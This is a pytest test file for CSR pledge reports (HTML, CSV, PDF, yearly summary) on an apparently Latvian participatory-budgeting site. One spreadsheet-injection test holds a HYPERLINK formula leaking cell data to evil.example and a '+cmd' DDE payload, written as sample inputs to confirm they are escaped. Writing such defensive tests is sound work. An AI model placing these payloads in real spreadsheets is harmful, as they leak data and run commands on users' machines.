"""CSR reports (ideas/partners/reports.py): per organisation and per round as a page, CSV and PDF, and the
yearly summary. The totals equal the pledges in every format; only confirmed and fulfilled pledges count;
404s; spreadsheet injection; both languages; the summary's table says what its bars show; bounded queries."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import AnonymousUser
from django.db import connection
from django.db.models import Sum
from django.http import Http404
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from pypdf import PdfReader

from ideas.models import BudgetRoundPage, Organisation, PartnersPage, Pledge
from ideas.partners import reports
from ideas.partners.organisations import register_organisation, verify_organisation
from ideas.partners.pledges import (
    confirm_pledge,
    decline_pledge,
    fulfil_pledge,
    offer_pledge,
    withdraw_pledge,
)
from ideas.phases import Phase
from ideas.text import formats
from tests.factories import make_idea, round_in_phase, translate_page

pytestmark = pytest.mark.django_db

NBSP = "\u00a0"
_registration_numbers = iter(range(40203000001, 40203999999))


@pytest.fixture
def partners_pages(home_lv, en):
    """The partners page in Latvian and English: the demo's when it has one, else made here (/partneri/,
    /en/partners/)."""
    latvian = PartnersPage.objects.live().filter(locale__language_code="lv").first()
    if latvian is None:
        latvian = PartnersPage(title="Partneri", slug="partneri")
        home_lv.add_child(instance=latvian)
        latvian.save_revision().publish()
    english = PartnersPage.objects.live().filter(locale=en, translation_key=latvian.translation_key).first()
    if english is None:
        english = translate_page(latvian, en, title="Partners", slug="partners")
    return {"lv": latvian, "en": english}


def organisation(name, verified=True):
    """An organisation registered (and verified) through the services, by the system (user=None)."""
    made = register_organisation(
        None,
        name=name,
        registration_number=str(next(_registration_numbers)),
        contact_name="Test Contact",
        contact_email="contact@example.test",
    )
    return verify_organisation(None, made) if verified else made


def pledge(org, idea, kind, state="confirmed", amount=0, hours=0):
    """A pledge offered through the service and moved to `state` the way staff and organisations do."""
    made = offer_pledge(
        None,
        org,
        idea,
        kind=kind,
        amount=amount,
        hours=hours,
        description="" if kind == Pledge.Kind.MONEY else "Work and materials",
    )
    if state in ("confirmed", "fulfilled"):
        confirm_pledge(None, made)
    if state == "fulfilled":
        fulfil_pledge(None, made)
    if state == "withdrawn":
        withdraw_pledge(None, made)
    if state == "declined":
        decline_pledge(None, made, "Not needed for this idea.")
    return made


@pytest.fixture
def scene(partners_pages):
    """Two verified organisations with pledges in every state on a round of their own, one of them on a second
    round; a pending organisation."""
    first_round = round_in_phase(Phase.SUPPORT, name="CSR test round")
    later_round = round_in_phase(Phase.SUBMISSION, name="CSR later round")
    trees = make_idea(first_round, title="Liepas skolas ielā")
    bench = make_idea(first_round, title="Soliņi parkā")
    path = make_idea(later_round, title="Veloceliņš gar upi")
    velo = organisation("SIA Testa Ritenis")
    koki = organisation("AS Testa Kokaudzētava")
    pending = organisation("SIA Gaida Pārbaudi", verified=False)
    pledges = [
        pledge(velo, trees, Pledge.Kind.MONEY, "confirmed", amount="1500.50"),
        pledge(velo, bench, Pledge.Kind.IN_KIND, "fulfilled", amount="820"),
        pledge(velo, bench, Pledge.Kind.VOLUNTEERING, "fulfilled", hours=24),
        pledge(velo, path, Pledge.Kind.MONEY, "confirmed", amount="12000"),
        pledge(koki, trees, Pledge.Kind.IN_KIND, "confirmed", amount="2400"),
        pledge(koki, trees, Pledge.Kind.VOLUNTEERING, "confirmed", hours=16),
        # Not counted anywhere:
        pledge(velo, trees, Pledge.Kind.MONEY, "offered", amount="777"),
        pledge(velo, bench, Pledge.Kind.MONEY, "withdrawn", amount="333"),
        pledge(koki, bench, Pledge.Kind.MONEY, "declined", amount="999"),
    ]
    return {
        "round": first_round,
        "later_round": later_round,
        "velo": velo,
        "koki": koki,
        "pending": pending,
        "pledges": pledges,
        "pages": partners_pages,
    }


def sums(**filters):
    """Money, in-kind value and hours of the counted pledges matching `filters`, straight from the database."""
    counted = Pledge.objects.filter(state__in=Pledge.COUNTED, **filters)

    def total(kind, column):
        return counted.filter(kind=kind).aggregate(total=Sum(column))["total"] or 0

    return (
        Decimal(total(Pledge.Kind.MONEY, "amount")),
        Decimal(total(Pledge.Kind.IN_KIND, "amount")),
        int(total(Pledge.Kind.VOLUNTEERING, "hours")),
    )


def url(page, route, *args):
    return page.url + page.reverse_subpage(route, args=list(args))


def download(page, route, *args):
    """A report's CSV or PDF, asked of the partners page's route method (as Wagtail calls it) in the page's
    language. test_download_links_on_the_report_pages_work follows the same files through the site's URLs."""
    subpage = "/" + page.reverse_subpage(route, args=list(args))
    view, view_args, view_kwargs = page.resolve_subpage(subpage)
    request = RequestFactory().get(url(page, route, *args))
    request.user = AnonymousUser()
    with translation.override(page.locale.language_code):
        return view(request, *view_args, **view_kwargs)


def text(node):
    return " ".join(node.get_text(" ").replace(NBSP, " ").split())


def html_totals(response, name):
    """(money, in-kind, hours) texts of the "pledged" totals row of `name` on a report page."""
    soup = BeautifulSoup(response.content.decode(), "html.parser")
    row = soup.select_one(f'tr.csr-total--pledged[data-name="{name}"]')
    assert row is not None, f"no totals row for {name}"
    return tuple(text(row.select_one(cell)) for cell in (".csr-money", ".csr-in-kind", ".csr-hours"))


def shown(money, in_kind, hours, language):
    """The totals as the report writes them in `language`, spaces normalised."""
    return tuple(
        value.replace(NBSP, " ")
        for value in (
            formats.money(money, language),
            formats.money(in_kind, language),
            formats.number(hours, language),
        )
    )


def read_csv(response, delimiter):
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def csv_number(cell):
    return Decimal(cell.replace(",", "."))


def csv_totals(rows, name, label="Pledged (confirmed and fulfilled)", language="en"):
    """(money, in-kind, hours) of a totals line of the CSV (its label in the file's language)."""
    with translation.override(language):
        label = translation.gettext(label)
    for row in rows:
        if len(row) == 6 and row[0] == label and row[1] == name:
            return csv_number(row[3]), csv_number(row[4]), int(row[5])
    raise AssertionError(f"no totals line {label!r} for {name!r} in {rows}")


def pdf_text(response):
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    return " ".join(" ".join((page.extract_text() or "").replace(NBSP, " ").split()) for page in reader.pages)


# The numbers ------------------------------------------------------------------------------------------------


def test_report_functions_add_up_the_counted_pledges(scene):
    velo, koki, first_round = scene["velo"], scene["koki"], scene["round"]

    data = reports.round_report_data(first_round)
    totals = data["totals"].pledged
    assert (totals.money, totals.in_kind, totals.hours) == sums(idea__round=first_round)
    assert (totals.money, totals.in_kind, totals.hours) == (Decimal("1500.50"), Decimal("3220"), 40)
    by_name = {group.title: group.totals for group in data["organisations"]}
    assert (by_name[velo.name].pledged.money, by_name[velo.name].pledged.in_kind) == (
        Decimal("1500.50"),
        Decimal("820"),
    )
    assert by_name[koki.name].pledged.hours == 16
    # Delivered: the fulfilled ones only.
    assert (data["totals"].delivered.in_kind, data["totals"].delivered.hours) == (Decimal("820"), 24)
    assert data["totals"].delivered.money == 0
    assert all(row.counted for group in data["organisations"] for row in group.rows)

    own = reports.organisation_report_data(velo)
    assert (own["totals"].pledged.money, own["totals"].pledged.in_kind, own["totals"].pledged.hours) == sums(
        organisation=velo
    )
    assert [group.round_id for group in own["rounds"]] == [scene["later_round"].pk, first_round.pk]
    with translation.override("en"):
        labels = sorted(row.state_label for row in reports.organisation_report_data(velo)["not_counted"])
    assert labels == ["Offered", "Withdrawn"]
    assert own["totals"].pledged.ideas == 3


# Organisation report ----------------------------------------------------------------------------------------


def test_organisation_report_totals_equal_the_pledges_in_html_csv_and_pdf(client, scene):
    velo, page = scene["velo"], scene["pages"]["en"]
    money, in_kind, hours = sums(organisation=velo)
    assert (money, in_kind, hours) == (Decimal("13500.50"), Decimal("820"), 24)

    response = client.get(url(page, "partner_report", velo.slug))
    assert response.status_code == 200
    assert (
        html_totals(response, velo.name) == shown(money, in_kind, hours, "en") == ("€13,500.50", "€820", "24")
    )
    soup = BeautifulSoup(response.content.decode(), "html.parser")
    # The pledges not counted are listed apart, marked, and in no total.
    not_counted = soup.select("tr.csr-row--not-counted")
    assert len(not_counted) == 2 and all("not counted" in text(row) for row in not_counted)
    assert "777" not in text(soup.select_one(".csr-totals")) and "333" not in text(
        soup.select_one(".csr-totals")
    )
    # Each round's subtotal is the sum of its rows.
    for table in soup.select("table:has(tfoot)"):
        row_money = sum(
            Decimal(re.sub(r"[^\d.]", "", text(cell)) or 0) for cell in table.select("tbody .csr-money")
        )
        foot = Decimal(re.sub(r"[^\d.]", "", text(table.select_one("tfoot .csr-money"))))
        assert foot == row_money

    rows = read_csv(download(page, "partner_report_file", velo.slug, "csv"), ",")
    assert rows[0][:3] == ["Organisation", "Round", "Year"]
    assert csv_totals(rows, velo.name) == (money, in_kind, hours)
    assert csv_totals(rows, velo.name, "Delivered (fulfilled)") == (Decimal(0), Decimal("820"), 24)
    counted_lines = [row for row in rows[1:] if len(row) == 10 and row[9] == "yes"]
    assert sum(csv_number(row[5]) for row in counted_lines) == money
    assert {row[8] for row in rows[1:] if len(row) == 10 and row[9] == "no"} == {"Offered", "Withdrawn"}

    response = download(page, "partner_report_file", velo.slug, "pdf")
    assert "attachment" in response["Content-Disposition"]
    pdf = pdf_text(response)
    assert f"CSR report: {velo.name}" in pdf
    assert "€13,500.50" in pdf and "€820" in pdf
    assert re.search(rf"{re.escape(velo.name)}: pledged 3 €13,500.50 €820 24 €14,320.50", pdf), pdf


def test_reports_of_organisations_that_are_not_verified_do_not_exist(client, scene):
    page = scene["pages"]["en"]
    pending = scene["pending"]
    for path in (url(page, "partner_report", pending.slug), url(page, "partner_report", "no-such-partner")):
        assert client.get(path).status_code == 404, path
    for fmt in ("csv", "pdf"):
        with pytest.raises(Http404):
            download(page, "partner_report_file", pending.slug, fmt)
    Organisation.objects.filter(pk=scene["velo"].pk).update(state=Organisation.State.SUSPENDED)
    assert client.get(url(page, "partner_report", scene["velo"].slug)).status_code == 404


@pytest.mark.parametrize("fmt", ["xlsx", "html", "CSV", "pdf.exe", "csv\x00", "c" * 5000])
def test_unknown_formats_are_404(scene, fmt):
    page = scene["pages"]["en"]
    with pytest.raises(Http404):
        download(page, "partner_report_file", scene["velo"].slug, fmt)
    with pytest.raises(Http404):
        download(page, "round_report_file", scene["round"].pk, fmt)


def test_download_links_on_the_report_pages_work(client, scene):
    """The CSV and PDF links of the pages, followed through the site's URLs as a visitor would."""
    page = scene["pages"]["en"]
    for path in (
        url(page, "partner_report", scene["velo"].slug),
        url(page, "round_report", scene["round"].pk),
    ):
        soup = BeautifulSoup(client.get(path).content.decode(), "html.parser")
        links = [a["href"] for a in soup.select(".csr-downloads a")]
        assert len(links) == 2
        csv_file, pdf_file = (client.get(link) for link in links)
        assert csv_file.status_code == 200 and csv_file["Content-Type"].startswith("text/csv"), links[0]
        assert pdf_file.status_code == 200 and pdf_file["Content-Type"] == "application/pdf", links[1]
        assert 'filename="csr-' in csv_file["Content-Disposition"]


# Round report -----------------------------------------------------------------------------------------------


def test_round_report_totals_equal_the_pledges_in_html_csv_and_pdf(client, scene):
    page, first_round = scene["pages"]["en"], scene["round"]
    money, in_kind, hours = sums(idea__round=first_round)

    response = client.get(url(page, "round_report", first_round.pk))
    assert response.status_code == 200
    assert text(BeautifulSoup(response.content.decode(), "html.parser").h1) == "CSR report: CSR test round"
    assert html_totals(response, "All organisations") == shown(money, in_kind, hours, "en")
    for name in (scene["velo"].name, scene["koki"].name):
        org_totals = sums(idea__round=first_round, organisation__name=name)
        assert html_totals(response, name) == shown(*org_totals, "en")
    content = response.content.decode()
    assert "777" not in content and "999" not in content and "333" not in content  # uncounted pledges
    assert "Veloceliņš gar upi" not in content  # the other round's idea

    rows = read_csv(download(page, "round_report_file", first_round.pk, "csv"), ",")
    assert csv_totals(rows, "All organisations") == (money, in_kind, hours)
    assert csv_totals(rows, scene["koki"].name) == sums(idea__round=first_round, organisation=scene["koki"])
    pledge_lines = [row for row in rows[1:] if len(row) == 10]
    assert (
        len(pledge_lines) == Pledge.objects.filter(idea__round=first_round, state__in=Pledge.COUNTED).count()
    )
    assert sum(csv_number(row[6]) for row in pledge_lines) == in_kind

    pdf = pdf_text(download(page, "round_report_file", first_round.pk, "pdf"))
    assert "All organisations: pledged 2 €1,500.50 €3,220 40 €4,720.50" in pdf, pdf
    assert "All organisations: delivered 1 €0 €820 24 €820" in pdf, pdf


def test_unknown_round_is_404(client, scene):
    page = scene["pages"]["en"]
    assert client.get(url(page, "round_report", 999999)).status_code == 404
    for fmt in ("csv", "pdf"):
        with pytest.raises(Http404):
            download(page, "round_report_file", 999999, fmt)


def test_round_report_queries_do_not_grow_with_the_pledges(client, partners_pages):
    page = partners_pages["en"]
    counts = []
    for size in (5, 50):
        budget_round = round_in_phase(Phase.SUPPORT, name=f"Round of {size}")
        round_page = BudgetRoundPage(
            title=f"Round of {size}", slug=f"round-of-{size}", intro="<p>x</p>", budget_round=budget_round
        )
        page.get_parent().add_child(instance=round_page)
        orgs = [organisation(f"Org {size}-{number}") for number in range(3)]
        for number in range(size):
            idea = make_idea(budget_round, title=f"Idea {number}")
            pledge(orgs[number % 3], idea, Pledge.Kind.MONEY, "confirmed", amount=100 + number)
        html = url(page, "round_report", budget_round.pk)
        client.get(html)  # warm the caches (site root paths) so that both sizes are measured alike
        with CaptureQueriesContext(connection) as queries:
            response = client.get(html)
        assert response.status_code == 200 and response.content.decode().count(">Idea ") == size
        counts.append(len(queries))
        with CaptureQueriesContext(connection) as queries:
            response = download(page, "round_report_file", budget_round.pk, "csv")
        assert response.content.decode("utf-8-sig").count("Idea ") == size
        counts.append(len(queries))
    html5, csv5, html50, csv50 = counts
    assert html50 <= html5, counts
    assert csv50 <= csv5, counts


# Spreadsheet injection --------------------------------------------------------------------------------------


def test_csv_cells_cannot_run_formulas(partners_pages):
    page = partners_pages["en"]
    budget_round = round_in_phase(Phase.SUPPORT, name="Injection round")
    evil = organisation('=HYPERLINK("https://evil.example/?"&A1,"Click")')
    idea = make_idea(budget_round, title="+cmd|' /C calc'!A0")
    pledge(evil, idea, Pledge.Kind.MONEY, "confirmed", amount="10")

    for route, key in (("partner_report_file", evil.slug), ("round_report_file", budget_round.pk)):
        rows = read_csv(download(page, route, key, "csv"), ",")
        cells = [cell for row in rows for cell in row]
        assert "'" + evil.name in cells and "'" + idea.title in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells


# Both languages ---------------------------------------------------------------------------------------------


def test_reports_in_latvian_and_english(client, scene):
    velo, first_round = scene["velo"], scene["round"]
    money, in_kind, hours = sums(organisation=velo)
    latvian, english = scene["pages"]["lv"], scene["pages"]["en"]
    assert latvian.url.startswith("/") and not latvian.url.startswith("/en/")
    assert english.url.startswith("/en/")

    lv_page = client.get(url(latvian, "partner_report", velo.slug))
    en_page = client.get(url(english, "partner_report", velo.slug))
    assert 'lang="lv"' in lv_page.content.decode() and 'lang="en"' in en_page.content.decode()
    assert (
        html_totals(lv_page, velo.name)
        == shown(money, in_kind, hours, "lv")
        == ("13 500,50 €", "820 €", "24")
    )
    assert html_totals(en_page, velo.name) == shown(money, in_kind, hours, "en")

    # Latvian spreadsheets: ";" between cells, a decimal comma.
    lv_rows = read_csv(download(latvian, "partner_report_file", velo.slug, "csv"), ";")
    assert csv_totals(lv_rows, velo.name, language="lv") == (money, in_kind, hours)
    assert any("1500,50" in row for row in lv_rows)
    en_rows = read_csv(download(english, "partner_report_file", velo.slug, "csv"), ",")
    assert any("1500.50" in row for row in en_rows)

    lv_pdf = pdf_text(download(latvian, "round_report_file", first_round.pk, "pdf"))
    assert "1 500,50 €" in lv_pdf and "3 220 €" in lv_pdf
    # Latvian letters print (the DejaVu font of settings.PDF_FONT).
    assert "AS Testa Kokaudzētava" in lv_pdf and "Liepas skolas ielā" in lv_pdf

    for page in (latvian, english):
        assert client.get(url(page, "round_report", first_round.pk)).status_code == 200
        assert client.get(url(page, "csr_summary")).status_code == 200


# Yearly summary ---------------------------------------------------------------------------------------------


def round_in_year(year, name):
    """A round whose voting starts on 1 March of `year` (its other dates around it)."""
    voting = timezone.make_aware(datetime.datetime(year, 3, 1, 9, 0))
    day = datetime.timedelta(days=1)
    return round_in_phase(
        Phase.SUPPORT,
        name=name,
        submission_starts=voting - 60 * day,
        review_starts=voting - 40 * day,
        support_starts=voting - 20 * day,
        voting_starts=voting,
        results_published=voting + 14 * day,
        implementation_starts=voting + 30 * day,
    )


@pytest.fixture
def future_years(partners_pages):
    """Pledges in 2031 (two rounds, funded and completed ideas) and 2033, years no demo round uses."""
    round_a, round_b = round_in_year(2031, "Spring 2031"), round_in_year(2031, "Autumn 2031")
    round_c = round_in_year(2033, "Spring 2033")
    from ideas.models import Category

    categories = list(Category.objects.filter(locale__language_code="lv").order_by("pk")[:2])
    done = make_idea(round_a, title="Completed park", status="completed", category=categories[0])
    funded = make_idea(round_a, title="Funded path", status="selected", category=categories[1])
    lost = make_idea(round_b, title="Idea not selected", status="not_selected", category=categories[0])
    alpha, beta = organisation("Alpha SIA"), organisation("Beta AS")
    pledge(alpha, done, Pledge.Kind.MONEY, "fulfilled", amount="5000")
    pledge(alpha, funded, Pledge.Kind.VOLUNTEERING, "confirmed", hours=30)
    pledge(beta, lost, Pledge.Kind.IN_KIND, "confirmed", amount="1250")
    pledge(beta, funded, Pledge.Kind.MONEY, "offered", amount="9999")  # not counted
    pledge(beta, make_idea(round_c, title="Later idea"), Pledge.Kind.MONEY, "confirmed", amount="42")
    return {"categories": categories, "alpha": alpha, "beta": beta, "pages": partners_pages}


def test_yearly_summary_totals_and_its_table_matches_its_bars(client, future_years):
    page = future_years["pages"]["en"]
    response = client.get(url(page, "csr_summary_year", 2031))
    assert response.status_code == 200
    soup = BeautifulSoup(response.content.decode(), "html.parser")
    money, in_kind, hours = sums(idea__round__voting_starts__year=2031)
    assert (money, in_kind, hours) == (Decimal(5000), Decimal(1250), 30)
    pledged = soup.select_one(".csr-totals tbody tr")
    assert tuple(text(pledged.select_one(cell)) for cell in (".csr-money", ".csr-in-kind", ".csr-hours")) == (
        "€5,000",
        "€1,250",
        "30",
    )
    assert text(soup.select_one(".csr-organisations")) == "2"
    assert text(soup.select_one(".csr-ideas")) == "3"
    assert text(soup.select_one(".csr-funded")) == "2"  # selected and completed
    assert text(soup.select_one(".csr-completed")) == "1"
    assert "9,999" not in response.content.decode()

    for key in ("organisations", "categories"):
        chart = soup.select_one(f"#csr-chart-{key}")
        bars = chart.select("li.csr-bar")
        table_rows = chart.select("table tbody tr")
        assert bars and len(bars) == len(table_rows)
        most_hours = max(int(text(bar.select_one(".csr-bar__hours"))) for bar in bars)
        largest = max(Decimal(re.sub(r"[^\d.]", "", text(bar.select_one(".csr-bar__value")))) for bar in bars)
        for bar, row in zip(bars, table_rows, strict=True):
            assert bar["data-name"] == row["data-name"]
            assert text(bar.select_one(".csr-bar__value")) == text(row.select_one(".csr-value"))
            assert text(bar.select_one(".csr-bar__hours")) == text(row.select_one(".csr-hours"))
            value = Decimal(re.sub(r"[^\d.]", "", text(row.select_one(".csr-value"))))
            width = int(
                re.search(r"\bpct-(\d+)\b", " ".join(bar.select_one(".csr-bar__fill")["class"])).group(1)
            )
            assert width == int(value * 100 / largest)
            hours = int(text(row.select_one(".csr-hours")).replace(",", ""))
            fill = bar.select_one(".csr-bar__fill--hours")
            assert int(re.search(r"\bpct-(\d+)\b", " ".join(fill["class"])).group(1)) == int(
                hours * 100 / most_hours
            )
            assert bar.select_one(".csr-bar__track")["aria-hidden"] == "true"
    by_organisation = {
        row["data-name"]: text(row.select_one(".csr-value"))
        for row in soup.select("#csr-chart-organisations tbody tr")
    }
    assert by_organisation == {"Alpha SIA": "€5,000", "Beta AS": "€1,250"}

    # Links to the other years; 2033 has its own numbers.
    years = {a.get_text(): a["href"] for a in soup.select(".csr-years a")}
    assert "2033" in years and soup.select_one('.csr-years [aria-current="page"]').get_text() == "2031"
    later = client.get(years["2033"])
    assert later.status_code == 200 and "€42" in later.content.decode()


def test_yearly_summary_by_default_shows_the_latest_year(client, future_years):
    page = future_years["pages"]["en"]
    response = client.get(url(page, "csr_summary"))
    assert response.status_code == 200
    assert "Corporate social responsibility in 2033" in response.content.decode()


def test_yearly_summary_without_pledges_and_unknown_years(client, partners_pages):
    page = partners_pages["lv"]
    Pledge.objects.all().delete()
    response = client.get(url(page, "csr_summary"))
    assert response.status_code == 200
    this_year = timezone.localdate().year
    soup = BeautifulSoup(response.content.decode(), "html.parser")
    assert str(this_year) in text(soup.h1)
    assert soup.select_one(".empty") is not None and not soup.select(".csr-bar")
    assert client.get(url(page, "csr_summary_year", this_year)).status_code == 200
    for year in (1900, this_year - 7, 99999):
        assert client.get(url(page, "csr_summary_year", year)).status_code == 404


# Hostile input ----------------------------------------------------------------------------------------------


def test_huge_numbers_in_addresses_are_404(client, partners_pages):
    page = partners_pages["en"]
    huge = "9" * 40
    for path in (
        f"{page.url}rounds/{huge}/report/",
        f"{page.url}csr/{huge}/",
        f"{page.url}csr/0/",
    ):
        assert client.get(path).status_code == 404, path


def test_a_missing_pdf_font_is_a_clear_message_not_a_server_error(scene, settings):
    settings.PDF_FONT = "/nonexistent/NoSuchFont.ttf"
    response = download(scene["pages"]["en"], "round_report_file", scene["round"].pk, "pdf")
    assert response.status_code == 503
    assert "fonts-dejavu-core" in response.content.decode()
